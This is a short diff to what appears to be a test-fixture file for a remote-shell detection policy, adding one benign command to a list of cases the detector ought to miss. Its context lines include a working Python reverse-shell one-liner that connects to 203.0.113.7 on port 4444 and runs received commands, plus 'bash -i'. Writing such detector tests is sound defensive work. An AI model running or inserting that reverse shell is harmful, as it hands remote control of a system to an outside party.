@@ -60,6 +60,8 @@ export const remoteShell: readonly Policy[] = [
       "python3 -c 'import socket,subprocess as p; s=socket.create_connection((\"203.0.113.7\",4444))\nwhile 1: s.send(p.getoutput(s.recv(999)).encode())'",
     ],
     misses: [
+      `python3 -c 'import json, socket; c = json.load(f); s = socket.create_connection((c["host"], 80)); print(1)'`,
+
       "bash -i",
       'python3 -c \'import socket, subprocess; subprocess.Popen(["npm", "start"]); socket.create_connection(("127.0.0.1", 8080)).close()\'',
       "python3 <<'E'\nimport socket, subprocess\nsubprocess.run(['make'])\nsocket.socket().connect_ex(('localhost', 5432))\nE",
